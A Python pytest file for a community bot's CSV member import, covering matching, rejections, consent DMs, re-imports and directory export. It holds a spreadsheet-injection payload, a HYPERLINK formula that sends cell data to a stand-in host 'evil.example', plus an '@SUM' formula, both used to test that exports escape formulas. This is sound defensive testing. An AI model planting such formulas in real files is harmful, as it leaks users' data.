"""Importing the association's member list: matching, rejections, consent and re-import.

The clock starts on Monday 2 March 2026, 10:00 UTC; members get DMs on weekdays
09:00-18:00 in their time zone. Members are found by a platform double that knows
`<name>@example.org`.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from bot.domain.member_import import Identity
from bot.messages import Button
from bot.prompts.dispatcher import Dispatcher
from bot.services import commands as c
from bot.services.app import Networker
from bot.services.commands import MemberRef
from bot.services.member_import import Summary, import_members
from tests.driver import Community, names_in
from tests.fakes import FakeClock

pytestmark = pytest.mark.fake_store_too

HEADER = "Email,Name,Skills,Can help with,Looking for,Chapter,Time zone,Contact window,Bio,Notes"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


class Platform:
    """The platform's members: found by email `<name>@example.org`, or by user id."""

    def __init__(self, *names: str, twins: tuple[str, ...] = ()) -> None:
        self.names = set(names)
        self.twins = set(twins)  # an address two accounts share
        self.asked = 0

    async def find(self, who: Identity) -> list[MemberRef]:
        self.asked += 1
        local = who.email.partition("@")[0] if who.email else who.user_id.removeprefix("U-")
        if local in self.twins:
            return [MemberRef(f"U-{local}", local), MemberRef(f"U-{local}2", local)]
        if local in self.names:
            return [MemberRef(f"U-{local}", local.capitalize())]
        return []


def csv_bytes(*rows: str, header: str = HEADER) -> bytes:
    return ("\r\n".join([header, *rows]) + "\r\n").encode()


async def run_import(
    app: Networker, data: bytes, platform: Platform, *, dry_run: bool = False
) -> Summary:
    return await import_members(
        app.units, "test", "T1", data, platform, app.clock.now, app.config, dry_run=dry_run
    )


def dispatcher(app: Networker) -> Dispatcher:
    return Dispatcher(app.units, app.clock, app.config, app.messengers)


async def test_a_5000_row_file_applies_the_good_rows_and_reports_every_bad_one(
    community: Community, app: Networker
) -> None:
    good = [f"m{i}" for i in range(4000)]
    rows = [
        f'm{i}@example.org,M{i},"python:expert; grant writing",mentoring,,North,'
        f'Europe/Berlin,weekdays 09:00-17:00,"{FORMULA.replace(chr(34), chr(34) * 2)}",x'
        for i in range(4000)
    ]
    bad: dict[int, str] = {}  # row number (header = 1) → expected reason

    def add(row: str, reason: str) -> None:
        rows.append(row)
        bad[len(rows) + 1] = reason

    for i in range(200):
        add(",,,,,,,,,", "empty row")
        add(f"m{i}@example.org,again{i},,,,,,,,", f"the same email as row {i + 2}")
        add(f"ghost{i}@example.org,,,,,,,,,", "matches no member")
        add(f"n{i}@example.org,,rust:guru,,,,,,,", "is not a skill level")
        add(f"p{i}@example.org,,,,,,Mars/Olympus,,,", "is not a time zone")
    assert len(rows) == 5000
    platform = Platform(*good, *(f"n{i}" for i in range(200)), *(f"p{i}" for i in range(200)))

    summary = await run_import(app, csv_bytes(*rows), platform)

    assert (summary.rows, summary.matched, summary.new, summary.rejected) == (
        5000,
        4000,
        4000,
        1000,
    )
    assert summary.ignored_columns == ("Notes",)
    reported = {p.row: p.reason for p in summary.problems}
    assert set(reported) == set(bad)
    for row, reason in bad.items():
        assert reason in reported[row], (row, reported[row])
    # The formula is kept as the text it is, and nobody is offered before agreeing.
    m7 = community.member("m7")
    assert f"Bio: “{FORMULA}”" in await m7.my_profile()
    assert "Discoverable: no" in await m7.my_profile()
    assert names_in(await community.member("asker").whoknows("python")) == []


async def test_each_member_gets_one_dm_in_their_window_and_is_shown_only_after_agreeing(
    community: Community, app: Networker, clock: FakeClock
) -> None:
    data = csv_bytes(
        "ana@example.org,Ana,python:expert,code reviews,,Berlin,Asia/Tokyo,,Backend dev,",
        "ben@example.org,Ben,python:learning,,,,,,,",
    )
    await run_import(app, data, Platform("ana", "ben"))
    await run_import(app, data, Platform("ana", "ben"))  # imported twice: still one DM
    clock.current = datetime(2026, 3, 2, 10, tzinfo=UTC)  # 19:00 in Tokyo: ana waits
    await dispatcher(app).run_due()
    ana, ben = community.member("ana"), community.member("ben")
    assert ana.dms() == []
    assert len(ben.dms()) == 1
    assert "Your association shared this profile with Networker" in ben.last_dm()
    clock.current = datetime(2026, 3, 3, 1, tzinfo=UTC)  # 10:00 in Tokyo
    await dispatcher(app).run_due()
    await dispatcher(app).run_due()
    assert len(ana.dms()) == 1 and len(ben.dms()) == 1
    assert "Skills: python:expert" in ana.last_dm()
    assert "Can help with: “code reviews”" in ana.last_dm()
    asker = community.member("asker")
    assert names_in(await asker.whoknows("python")) == []  # nobody answered yet

    shown = await ana.press(ana.button("Looks right"))
    assert shown.ok and shown.replaces
    hidden = await ben.press(ben.button("Keep me hidden"))
    assert "stays hidden" in hidden.text
    assert names_in(await asker.whoknows("python")) == ["Ana"]


async def test_a_reimport_updates_what_came_from_the_list_never_what_the_member_wrote(
    community: Community, app: Networker
) -> None:
    first = csv_bytes("ana@example.org,Ana,python:expert,reviews,a mentor,North,UTC,,Old bio,")
    await run_import(app, first, Platform("ana"))
    ana = community.member("ana")
    await ana.profile('bio="My own words"')
    second = csv_bytes("ana@example.org,Ana,python:expert; go,reviews,a mentor,South,UTC,,New bio,")
    summary = await run_import(app, second, Platform("ana"))
    assert (summary.new, summary.updated, summary.unchanged) == (0, 1, 0)
    text = await ana.my_profile()
    assert "Bio: “My own words”" in text
    assert "go (practitioner)" in text
    # A third import with the same values changes nothing.
    again = await run_import(app, second, Platform("ana"))
    assert (again.updated, again.unchanged) == (0, 1)
    # Editing back to the imported value still makes the field the member's own.
    await ana.profile('bio="New bio"')
    await run_import(app, csv_bytes("ana@example.org,,,,,,,,Newest bio,"), Platform("ana"))
    assert "Bio: “New bio”" in await ana.my_profile()


async def test_a_member_with_a_profile_of_their_own_keeps_it(
    community: Community, app: Networker
) -> None:
    ana = community.member("ana")
    await ana.profile('skills="rust:expert" bio="Mine"')
    summary = await run_import(
        app, csv_bytes("ana@example.org,Ana,python:expert,,,,,,Theirs,"), Platform("ana")
    )
    assert summary.unchanged == 1
    text = await ana.my_profile()
    assert "rust (expert)" in text and "python" not in text and "Mine" in text
    assert "Discoverable: yes" in text


async def test_a_dry_run_reports_the_same_and_changes_nothing(
    community: Community, app: Networker
) -> None:
    data = csv_bytes("ana@example.org,Ana,python:expert,,,,,,,", "twin@example.org,,,,,,,,,")
    summary = await run_import(app, data, Platform("ana", twins=("twin",)), dry_run=True)
    assert (summary.matched, summary.new, summary.rejected) == (1, 1, 1)
    assert "matches 2 members" in summary.problems[0].reason
    assert summary.headline().startswith("Checked (dry run")
    assert "Skills: none yet" in await community.member("ana").my_profile()


async def test_the_directory_lists_only_members_who_agreed_with_formulas_escaped(
    community: Community, app: Networker
) -> None:
    await run_import(
        app,
        csv_bytes(f'ana@example.org,Ana,python,,,,,,"{FORMULA.replace(chr(34), chr(34) * 2)}",'),
        Platform("ana", "ben"),
    )
    await run_import(app, csv_bytes("ben@example.org,Ben,go,,,,,,@SUM(A1),"), Platform("ben"))
    ana, ben = community.member("ana"), community.member("ben")
    await ana.profile("discoverable=yes")  # agreeing through /profile counts too
    organiser = community.member("org", organiser=True)
    result = await organiser.do(c.ExportDirectory())
    table = list(csv.reader(io.StringIO(result.message.sections[1].text[0].text)))
    assert table[0] == [
        "username",
        "platform user id",
        "skills",
        "can help with",
        "looking for",
        "chapter",
        "time zone",
        "bio",
    ]  # not the contact window: members don't see each other's
    names = [row[0] for row in table[1:]]
    assert "Ana" in names and "Ben" not in names  # ben never answered: not listed
    ana_row = table[names.index("Ana") + 1]
    assert "'" + FORMULA in ana_row  # opened in a spreadsheet: text, not a formula
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)
    assert "Discoverable: no" in await ben.my_profile()
    refused = await community.member("plain").do(c.ExportDirectory())
    assert not refused.ok


async def test_forgetting_drops_what_the_list_said_and_export_shows_it_before(
    community: Community, app: Networker
) -> None:
    await run_import(
        app, csv_bytes("ana@example.org,Ana,python,,,North,,,Imported bio,"), Platform("ana")
    )
    ana = community.member("ana")
    exported = await ana.export()
    assert exported["profile"]["chapter"] == "North"
    assert exported["profile"]["bio"] == "Imported bio"
    await ana.forget()
    async with app.units(write=False) as uow:
        found = await uow.communities.by_external_id("test", "T1")
        assert found is not None and found.id is not None
        members = await uow.members.named(found.id, "", limit=100)
        assert all(m.display_name != "Ana" for m in members)
        records = await uow.imports.many(range(1, 10))
        assert [(r.imported, r.consent) for r in records.values()] == [({}, "hidden")]


async def test_a_member_moves_chapter_themselves_and_the_next_import_keeps_it(
    community: Community, app: Networker
) -> None:
    await run_import(app, csv_bytes("ana@example.org,Ana,,,,North,,,,"), Platform("ana"))
    ana = community.member("ana")
    assert "Chapter: “North”" in await ana.my_profile()
    await ana.profile('chapter="West"')
    await run_import(app, csv_bytes("ana@example.org,Ana,,,,South,,,,"), Platform("ana"))
    assert "Chapter: “West”" in await ana.my_profile()


async def test_edit_opens_the_form_ready_to_show_and_saving_it_agrees(
    community: Community, app: Networker, clock: FakeClock
) -> None:
    await run_import(app, csv_bytes("ana@example.org,Ana,python:expert,,,,,,,"), Platform("ana"))
    await dispatcher(app).run_due()
    ana = community.member("ana")
    shown = await ana.press(ana.button("Edit"))
    form = shown.message.form
    assert form is not None
    assert {i.name: i.initial for i in form.inputs}["discoverable"] == "yes"
    inputs = {i.name: i.initial for i in form.inputs} | {"skills": "python:expert, go:learning"}
    saved = await ana.press(Button(form.submit, form.action, form.value), inputs)
    assert saved.ok, saved.text
    assert names_in(await community.member("asker").whoknows("go")) == ["Ana"]
    # Going by the form's hidden default instead keeps her hidden.
    await run_import(app, csv_bytes("ben@example.org,Ben,go:expert,,,,,,,"), Platform("ben"))
    ben = community.member("ben")
    await ben.profile('bio="Just my bio"')
    assert names_in(await community.member("asker").whoknows("go")) == ["Ana"]
